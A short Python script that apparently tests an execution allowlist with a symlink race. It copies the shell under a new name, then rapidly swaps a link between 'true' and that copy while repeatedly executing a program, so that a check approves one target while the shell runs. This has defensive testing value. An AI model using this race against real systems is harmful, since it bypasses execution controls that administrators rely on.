import os, shutil, sys, threading

program, interpreter, link = sys.argv[1:]
with open(shutil.which("sh"), "rb") as shell, open(os.open(interpreter, os.O_CREAT | os.O_WRONLY, 0o755), "wb") as copy:
    copy.write(shell.read())
# One that is allowed and does nothing.
paths = [shutil.which("true"), os.path.abspath(interpreter)]
over = False


def lead_to(path):
    os.symlink(path, link + ".new")
    os.rename(link + ".new", link)


def execute():
    child = os.fork()
    if child == 0:
        try:
            os.execve(program, [program], os.environ)
        except OSError:
            os._exit(0)
    os.waitpid(child, 0)


def exchange():
    while not over:
        for path in paths:
            lead_to(path)


for path in paths:
    lead_to(path)
    execute()
thread = threading.Thread(target=exchange, daemon=True)
thread.start()
for _ in range(20):
    execute()
over = True
thread.join()
